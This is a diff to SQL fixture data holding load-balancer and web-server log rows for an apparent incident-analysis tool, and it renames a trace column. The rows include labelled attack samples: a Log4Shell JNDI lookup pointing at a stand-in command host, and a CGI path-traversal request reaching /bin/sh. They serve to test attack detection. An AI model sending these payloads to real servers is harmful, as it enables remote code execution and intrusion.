@@ -235,25 +235,25 @@ INSERT INTO store.alb_context (context_id, capture, type, elb, target_group_arn,
 
 INSERT INTO store.alb (object_id, row_no, context_id, time, request_creation_time, client4, client_port, target4, target_port,
   target_processing_us, elb_status_code, target_status_code, received_bytes, sent_bytes, request_verb, request_proto,
-  scheme, host, url_port, path, query, user_agent, trace_id, path_decoded, attack, utf8_escaped) VALUES
+  scheme, host, url_port, path, query, user_agent, trace_root, path_decoded, attack, utf8_escaped) VALUES
   (6, 1, 2, '2026-11-01 09:59:58.2', '2026-11-01 09:59:58.1', v4('198.51.100.7'), 40001, NULL, NULL,
     NULL, 403, NULL, 200, 300, 'GET', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/', 'x=${jndi:ldap://c2.evil.example/a}',
-    'curl/7.88', 'Root=1-58337280-1d84f3d73c47ec4e58577259', NULL, 'log4shell', false),
+    'curl/7.88', '1-58337280-1d84f3d73c47ec4e58577259', NULL, 'log4shell', false),
   (6, 2, 1, '2026-11-01 10:00:01.2', '2026-11-01 10:00:01.1', v4('198.51.100.7'), 40002, v4('10.0.1.5'), 80,
     4000, 200, 200, 200, 900, 'POST', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/cgi-bin/.%2e/.%2e/bin/sh', NULL,
-    'curl/7.88', 'Root=1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
+    'curl/7.88', '1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
   (6, 3, 1, '2026-11-01 10:20:01.2', '2026-11-01 10:20:01.1', v4('203.0.113.50'), 40003, v4('10.0.1.5'), 80,
     4000, 200, 200, 200, 5000, 'GET', 'HTTP/1.1', 'https', 'www.corp.example', 443, '/', NULL,
-    'Mozilla/5.0', 'Root=1-58337290-1d84f3d73c47ec4e58577259', NULL, NULL, false);
+    'Mozilla/5.0', '1-58337290-1d84f3d73c47ec4e58577259', NULL, NULL, false);
 
 INSERT INTO store.httpd_context (context_id, capture, log_group, log_stream, instance_id, method, protocol) VALUES
   (1, 'incident', '/web/ec2', 'i-0a1b2c3d', 'i-0a1b2c3d', 'POST', 'HTTP/1.1'),
   (2, 'incident', '/web/ec2', 'i-0a1b2c3d', 'i-0a1b2c3d', 'GET', 'HTTP/1.1');
 
-INSERT INTO store.httpd (object_id, row_no, context_id, time, client4, path, status, bytes_out, user_agent, trace_id,
+INSERT INTO store.httpd (object_id, row_no, context_id, time, client4, path, status, bytes_out, user_agent, trace_root,
   path_decoded, attack, utf8_escaped) VALUES
   (7, 1, 1, '2026-11-01 10:00:01', v4('10.0.9.4'), '/cgi-bin/.%2e/.%2e/bin/sh', 200, 800, 'curl/7.88',
-    'Root=1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
+    '1-58337281-1d84f3d73c47ec4e58577259', '/cgi-bin/../../bin/sh', 'traversal,command', false),
   (7, 2, 2, '2026-11-01 10:00:31', v4('10.0.9.4'), '/', 200, 800, 'Mozilla/5.0', NULL, NULL, NULL, false);
 -- change: web's role stops the flow log from 203.0.113.66
 
